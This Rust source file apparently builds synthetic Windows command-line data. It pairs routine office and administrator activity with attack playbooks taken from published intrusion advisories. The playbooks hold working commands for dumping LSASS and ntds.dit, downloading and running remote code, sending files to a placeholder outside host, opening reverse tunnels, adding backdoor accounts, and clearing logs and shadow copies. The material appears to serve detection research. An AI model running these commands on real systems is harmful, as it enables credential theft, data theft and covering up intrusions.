//! What people and programs run in an office, and what published intrusions ran.

/// Work that is done again and again.
pub(crate) struct Daily {
    /// `user`, `admin`, `helpdesk`, `service`, `system`.
    pub(crate) who: &'static str,
    pub(crate) parent: &'static str,
    /// On servers, or on workstations.
    pub(crate) servers: bool,
    /// On both.
    pub(crate) everywhere: bool,
    pub(crate) office_hours: bool,
    /// How often a day on each host, in hundredths.
    pub(crate) a_day_by_hundred: u32,
    /// Found in every estate.
    pub(crate) always: bool,
    pub(crate) commands: &'static [&'static str],
}

const fn desktop(often: u32, parent: &'static str, commands: &'static [&'static str]) -> Daily {
    Daily {
        who: "user",
        parent,
        servers: false,
        everywhere: false,
        office_hours: true,
        a_day_by_hundred: often,
        always: true,
        commands,
    }
}

const fn machine(often: u32, parent: &'static str, commands: &'static [&'static str]) -> Daily {
    Daily {
        who: "system",
        parent,
        servers: false,
        everywhere: true,
        office_hours: false,
        a_day_by_hundred: often,
        always: true,
        commands,
    }
}

const fn product(
    who: &'static str,
    servers: bool,
    everywhere: bool,
    often: u32,
    parent: &'static str,
    commands: &'static [&'static str],
) -> Daily {
    Daily {
        who,
        parent,
        servers,
        everywhere,
        office_hours: false,
        a_day_by_hundred: often,
        always: false,
        commands,
    }
}

const fn desk(
    who: &'static str,
    servers: bool,
    everywhere: bool,
    often: u32,
    commands: &'static [&'static str],
) -> Daily {
    Daily {
        who,
        parent: "cmd.exe",
        servers,
        everywhere,
        office_hours: true,
        a_day_by_hundred: often,
        always: true,
        commands,
    }
}

/// Ordinary work.
pub(crate) const BENIGN: &[Daily] = &[
    desktop(
        600,
        "explorer.exe",
        &[
            r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Documents\{word}{n}.docx""#,
        ],
    ),
    desktop(
        500,
        "outlook.exe",
        &[r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "\\srv03\group\{word}{n}.xlsx""#],
    ),
    desktop(
        900,
        "explorer.exe",
        &[
            r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument https://intranet.example/{word}/{n}"#,
        ],
    ),
    desktop(
        2000,
        "msedge.exe",
        &[
            r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=renderer --lang=en --device-scale-factor=1 --renderer-client-id={n} --time-ticks-at-unix-epoch={n2}"#,
        ],
    ),
    desktop(
        100,
        "explorer.exe",
        &[r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE""#],
    ),
    desktop(
        150,
        "explorer.exe",
        &[r"C:\Windows\system32\notepad.exe C:\Users\{user}\Desktop\{word}.txt"],
    ),
    desktop(
        60,
        "explorer.exe",
        &[
            r#""C:\Windows\System32\rundll32.exe" shell32.dll,OpenAs_RunDLL C:\Users\{user}\Downloads\{word}.{hex}"#,
        ],
    ),
    desktop(
        30,
        "explorer.exe",
        &[
            r"rundll32.exe C:\Windows\system32\PhotoViewer.dll,ImageView_Fullscreen C:\Users\{user}\Pictures\{word}.jpg",
        ],
    ),
    desktop(20, "explorer.exe", &[r"C:\Windows\system32\control.exe printers"]),
    desktop(10, "explorer.exe", &["cmd.exe", "ipconfig /all", "ping {ip}"]),
    desktop(
        100,
        "userinit.exe",
        &[
            r"cmd.exe /c \\corp.example\netlogon\logon.bat",
            r"net use H: \\srv03\home$\{user} /persistent:no",
            r"reg add HKCU\Software\Office\Common /v Template /t REG_SZ /d \\srv03\tpl /f",
        ],
    ),
    machine(
        2500,
        "services.exe",
        &[r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"],
    ),
    machine(
        800,
        "svchost.exe",
        &[r"C:\Windows\system32\backgroundTaskHost.exe -ServerName:App.AppX{hex}.mca"],
    ),
    machine(400, "svchost.exe", &[r"C:\Windows\System32\taskhostw.exe"]),
    machine(
        200,
        "svchost.exe",
        &[r"C:\Windows\system32\DllHost.exe /Processid:{guid}"],
    ),
    machine(
        300,
        "searchindexer.exe",
        &[
            r#""C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{n}_ Global\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -{n2}"#,
        ],
    ),
    machine(
        100,
        "svchost.exe",
        &[
            r"C:\Windows\system32\wuauclt.exe /RunHandlerComServer",
            r"C:\Windows\System32\usocoreworker.exe -Embedding",
        ],
    ),
    machine(
        60,
        "trustedinstaller.exe",
        &[r"C:\Windows\system32\dism.exe /online /cleanup-image /startcomponentcleanup"],
    ),
    machine(
        150,
        "svchost.exe",
        &[r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding"],
    ),
    machine(
        100,
        "svchost.exe",
        &[
            r#""C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.{n}.7-0\MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges"#,
        ],
    ),
    machine(
        40,
        "svchost.exe",
        &[
            r"C:\Windows\system32\rundll32.exe C:\Windows\system32\generaltel.dll,aeinv_appraiser",
            r"C:\Windows\system32\compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun",
        ],
    ),
    machine(
        30,
        "gpscript.exe",
        &[
            r"cmd.exe /c \\corp.example\sysvol\corp.example\scripts\startup.cmd",
            r"powershell.exe -ExecutionPolicy Bypass -NoProfile -File \\corp.example\sysvol\corp.example\scripts\inventory.ps1",
        ],
    ),
    product(
        "system",
        false,
        true,
        300,
        "ccmexec.exe",
        &[
            r"C:\Windows\CCM\SCToolsLauncher.exe",
            r"powershell.exe -NoLogo -Noninteractive -NoProfile -ExecutionPolicy Bypass -File C:\Windows\CCM\SystemTemp\{guid}.ps1",
        ],
    ),
    product(
        "system",
        false,
        true,
        25,
        "ccmexec.exe",
        &[
            r"msiexec.exe /i C:\Windows\ccmcache\{hex}\setup.msi /qn REBOOT=ReallySuppress",
            r"reg query HKLM\Software\Microsoft\Windows\CurrentVersion\Uninstall /s",
        ],
    ),
    product(
        "service",
        true,
        false,
        2400,
        "nsclient++.exe",
        &[
            r"cmd.exe /c scripts\check_disk.bat C: {n}",
            "wmic logicaldisk get caption,freespace,size",
        ],
    ),
    product(
        "service",
        true,
        true,
        600,
        "zabbix_agentd.exe",
        &[
            r#"powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\zabbix\scripts\tasks.ps1" {n}"#,
            "tasklist /fo csv /nh",
        ],
    ),
    product(
        "service",
        true,
        false,
        100,
        "veeamagent.exe",
        &[
            r"vssadmin list writers",
            r"C:\Windows\system32\wbadmin.exe get status",
            r"cmd.exe /c robocopy D:\data \\srv07\backup$\{date} /mir /r:1 /w:1 /log:C:\logs\{date}.log",
        ],
    ),
    product(
        "service",
        true,
        false,
        100,
        "sqlagent.exe",
        &[
            r#"cmd.exe /c "7z.exe a -t7z D:\backup\db_{date}.7z D:\backup\full_{date}.bak""#,
            r"forfiles /p D:\backup /s /m *.bak /d -14 /c cmd /c del @path",
        ],
    ),
    product(
        "service",
        true,
        false,
        2400,
        "svchost.exe",
        &[
            r#"powershell.exe -Command "Get-Service | Where-Object Status -eq Stopped | Out-File C:\logs\svc_{date}.txt""#,
        ],
    ),
    product(
        "service",
        true,
        false,
        50,
        "svchost.exe",
        &[
            "repadmin /replsummary",
            "dcdiag /q",
            r"wevtutil epl Security D:\archive\sec_{date}.evtx",
        ],
    ),
    product(
        "system",
        false,
        true,
        400,
        "salt-minion.exe",
        &[
            r#"cmd.exe /c "powershell -enc VwByAGkAdABlAC0ASABvAHMAdAAgAG8AawA=""#,
            "hostname",
        ],
    ),
    product(
        "system",
        false,
        true,
        80,
        "ansible.exe",
        &[
            "powershell.exe -noninteractive -encodedcommand RwBlAHQALQBTAGUAcgB2AGkAYwBlACAAdwB1AGEAdQBzAGUAcgB2AA==",
            "systeminfo /fo csv",
        ],
    ),
    product(
        "user",
        false,
        false,
        120,
        "explorer.exe",
        &[r#""C:\Program Files\TeamViewer\TeamViewer.exe""#],
    ),
    product(
        "user",
        false,
        false,
        15,
        "code.exe",
        &[
            "git fetch --all",
            "git status",
            r"C:\Python312\python.exe C:\Users\{user}\src\{word}.py --n {n}",
            "npm run build",
            "dotnet build {word}.csproj",
            "curl https://registry.npmjs.example/{word}",
        ],
    ),
    desk(
        "admin",
        true,
        false,
        40,
        &[
            "whoami",
            "systeminfo",
            "netstat -ano",
            "tasklist /svc",
            "sc query wuauserv",
        ],
    ),
    desk(
        "admin",
        true,
        false,
        60,
        &[
            r"mmc.exe C:\Windows\system32\services.msc",
            r"net stop spooler",
            r"net start spooler",
        ],
    ),
    desk(
        "admin",
        true,
        false,
        25,
        &[
            "nltest /dsgetdc:corp.example",
            "ipconfig /all",
            "nslookup {server}.corp.example",
            "ping {server}",
        ],
    ),
    desk(
        "admin",
        true,
        false,
        30,
        &[
            "gpupdate /force",
            "gpresult /r",
            r"wevtutil qe System /c:50 /f:text",
        ],
    ),
    desk(
        "admin",
        true,
        false,
        15,
        &[
            r"schtasks /create /tn nightly_{word} /tr C:\scripts\nightly.cmd /sc daily /st 02:00 /ru SYSTEM",
            "schtasks /query /fo list",
        ],
    ),
    desk(
        "admin",
        true,
        false,
        10,
        &[r"psexec.exe \\{ws} -s cmd /c gpupdate /force"],
    ),
    desk(
        "admin",
        true,
        false,
        10,
        &[r"netsh advfirewall firewall add rule name={word} dir=in action=allow protocol=TCP localport={n}"],
    ),
    desk(
        "admin",
        true,
        false,
        10,
        &[
            r"certutil -hashfile C:\install\{word}.msi SHA256",
            r"certutil -store my",
            r"certutil -dump C:\install\{word}.cer",
        ],
    ),
    desk(
        "admin",
        true,
        false,
        8,
        &[
            r"dsquery user -name {who}",
            r"net group helpdesk /domain",
            r"net user {who} /domain",
        ],
    ),
    desk(
        "admin",
        true,
        false,
        5,
        &[
            r"reg save HKLM\SOFTWARE\Vendor C:\backup\vendor_{date}.hiv",
            r"bcdedit /enum",
            r"diskpart /s C:\scripts\extend.txt",
        ],
    ),
    desk(
        "admin",
        true,
        false,
        5,
        &[
            r"powershell.exe Invoke-Command -ComputerName {server} -ScriptBlock {Restart-Service W3SVC}",
            r"powershell.exe Get-ADUser -Filter * -Properties LastLogonDate",
        ],
    ),
    desk(
        "admin",
        true,
        false,
        3,
        &[
            r"ldifde -f C:\temp\export_{date}.ldf -d OU=Staff,DC=corp,DC=example",
            r"csvde -f C:\temp\users_{date}.csv",
        ],
    ),
    desk(
        "helpdesk",
        false,
        false,
        6,
        &["net user {who} /domain", "net user {who} /active:yes /domain"],
    ),
    desk(
        "helpdesk",
        false,
        false,
        5,
        &[r"mstsc.exe /v:{ws}", r"msra.exe /offerra {ws}", r"ping {ws}"],
    ),
    desk(
        "helpdesk",
        false,
        false,
        4,
        &[
            "quser /server:{ws}",
            "gpresult /s {ws} /r",
            "taskkill /s {ws} /im outlook.exe /f",
        ],
    ),
    desk(
        "helpdesk",
        false,
        false,
        3,
        &[
            r"xcopy \\{ws}\c$\Users\{who}\Favorites \\srv03\migrate\{who} /e /y",
            r"robocopy \\{ws}\c$\Users\{who}\Documents \\srv03\home$\{who} /e",
        ],
    ),
    desk(
        "helpdesk",
        false,
        false,
        2,
        &[
            "systeminfo",
            "ipconfig /flushdns",
            "sfc /scannow",
            "wmic product get name,version",
        ],
    ),
];

/// Published intrusions: AA23-144A and AA24-038A (Volt Typhoon), AA20-352A and its like (SVR), AA22-277A (defence
/// contractor), DFIR reports of hands-on intrusions. `MOVE` is a logon to another host.
pub(crate) const PLAYBOOKS: &[&[&str]] = &[
    // Volt Typhoon, AA23-144A: discovery, directory database, proxy.
    &[
        r#"cmd.exe /C "wmic path win32_logicaldisk get caption,filesystem,freespace,size,volumename""#,
        "netstat -ano",
        "ipconfig /all",
        r#"cmd.exe /c net group "domain admins" /dom"#,
        "MOVE",
        r#"wmic process call create "cmd.exe /c mkdir C:\Windows\Temp\{word} & ntdsutil \"ac i ntds\" ifm \"create full C:\Windows\Temp\{word}\"""#,
        r"cmd.exe /c dir C:\Windows\Temp\{word}",
        r"7z.exe a -p{hex} C:\Windows\Temp\{word}.7z C:\Windows\Temp\{word}",
        r"netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport={n} connectaddress={out} connectport=8443 protocol=tcp",
        r"netsh interface portproxy delete v4tov4 listenaddress=0.0.0.0 listenport={n}",
        r"cmd.exe /c rd /S /Q C:\Windows\Temp\{word}",
    ],
    // Volt Typhoon through Impacket's wmiexec.
    &[
        r"cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__{n2}.{n} 2>&1",
        r#"cmd.exe /Q /c net group "domain admins" /dom 1> \\127.0.0.1\ADMIN$\__{n2}.{n} 2>&1"#,
        r"cmd.exe /Q /c systeminfo 1> \\127.0.0.1\ADMIN$\__{n2}.{n} 2>&1",
        "MOVE",
        r"cmd.exe /Q /c vssadmin create shadow /for=C: 1> \\127.0.0.1\ADMIN$\__{n2}.{n} 2>&1",
        r"cmd.exe /Q /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy{n}\Windows\NTDS\ntds.dit C:\Windows\Temp\{word}.dat",
        r"cmd.exe /Q /c reg save hklm\system C:\Windows\Temp\ss.dat",
        r"makecab C:\Windows\Temp\{word}.dat C:\Windows\Temp\{word}.cab",
    ],
    // Volt Typhoon, AA24-038A: quiet: logs, directory, archive.
    &[
        "quser",
        "whoami /all",
        r"powershell.exe Get-EventLog security -instanceid 4624 -after {date} | fl * | Out-File C:\users\public\documents\{word}.dat",
        r"ldifde.exe -f c:\windows\temp\{word}.txt -p subtree",
        r"cmd.exe /c nltest /domain_trusts",
        r"dnscmd . /enumrecords corp.example @ /type A",
        "MOVE",
        r"reg query hklm\software\",
        r"rar.exe a -hp{hex} c:\Windows\temp\{word}.rar c:\windows\temp\{word}.txt",
        r"cmd.exe /c copy c:\Windows\temp\{word}.rar \\{server}\c$\inetpub\wwwroot\aspnet\{word}.gif",
    ],
    // Memory of LSASS and on with its passwords.
    &[
        "whoami /priv",
        "tasklist /svc",
        r"cmd.exe /c tasklist | findstr lsass",
        r"rundll32.exe C:\windows\system32\comsvcs.dll, MiniDump {n} C:\ProgramData\{word}.dmp full",
        r"makecab C:\ProgramData\{word}.dmp C:\ProgramData\{word}.cab",
        r"net use \\{server}\c$ /user:corp\adm1 {hex}",
        "MOVE",
        r"wmic /node:{server} process call create C:\ProgramData\{word}.bat",
        r"wevtutil cl Security",
    ],
    // A loader, then tools from afar (hands-on intrusions by criminals before ransomware).
    &[
        r"rundll32.exe C:\Users\Public\{word}.dll,StartW",
        "ipconfig /all",
        "net view /all /domain",
        "nltest /domain_trusts /all_trusts",
        r#"net localgroup administrators"#,
        r#"net group "Domain Admins" /domain"#,
        r"C:\ProgramData\adfind.exe -f objectcategory=computer > C:\ProgramData\ad_{word}.txt",
        "MOVE",
        r"powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://{out}/{word}')",
        r"C:\ProgramData\rclone.exe copy \\{server}\share remote:{word} --config C:\ProgramData\r.conf",
        r"vssadmin.exe delete shadows /all /quiet",
    ],
    // A foothold by way of files fetched with what is there.
    &[
        "hostname",
        r"certutil.exe -urlcache -split -f http://{out}/{word}.txt C:\Users\Public\{word}.txt",
        r"certutil.exe -decode C:\Users\Public\{word}.txt C:\Users\Public\{word}.dll",
        r"regsvr32.exe /s C:\Users\Public\{word}.dll",
        r"schtasks /create /tn {word}Update /tr C:\Users\Public\{word}.bat /sc minute /mo 30 /ru SYSTEM",
        r"reg query HKLM\SYSTEM\CurrentControlSet\Control\Lsa",
        r#"cmd.exe /c dir /s /b \\{server}\home$\*password*"#,
        "MOVE",
        r"bitsadmin /transfer {word} /upload /priority high http://{out}/u C:\Users\Public\{word}.zip",
    ],
    // SVR-like: renamed tools, remote tasks, mail.
    &[
        r"C:\Windows\system32\cmd.exe /C csrss.exe -h breached.contoso -f (name=Domain Admins) member -list",
        r"nltest.exe /dclist:corp.example",
        r"powershell.exe Get-WmiObject Win32_LogonSession -ComputerName {server}",
        r"schtasks /create /F /S {server} /tn \Microsoft\Windows\SoftwareProtectionPlatform\EventCacheManager /tr C:\Windows\SoftwareDistribution\EventCacheManager.exe /sc ONSTART /ru system",
        "MOVE",
        r"auditpol.exe /set /category:Detailed Tracking /success:disable",
        r"powershell.exe New-MailboxExportRequest -Mailbox {who} -FilePath \\{server}\c$\temp\b.pst",
        r"netsh advfirewall firewall add rule name=Core protocol=UDP dir=out localport=137 action=block",
        r"fsutil usn deletejournal /d c:",
    ],
    // Only dull commands: nothing but questions, at an odd place and hour.
    &[
        "whoami /all",
        "net user /domain",
        "net accounts /domain",
        "net time /domain",
        "nltest /dclist:corp.example",
        "arp -a",
        "route print",
        r"net view \\{server} /all",
        "wmic useraccount get name,sid",
        r"reg query HKCU\Software\Microsoft\Terminal Server Client\Servers",
        "cmdkey /list",
        "MOVE",
        "query user",
        r"dir \\{server}\c$\Users",
    ],
    // A tunnel by way of a tool that many administrators have.
    &[
        "ipconfig /displaydns",
        r"plink.exe -ssh -N -R {n}:127.0.0.1:3389 svc@{out} -pw {hex}",
        r"reg add HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server /v fDenyTSConnections /t REG_DWORD /d 0 /f",
        "MOVE",
        r"net user support {hex} /add",
        r"net localgroup administrators support /add",
        r"reg add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f",
        r"procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\{word}.dmp",
    ],
];
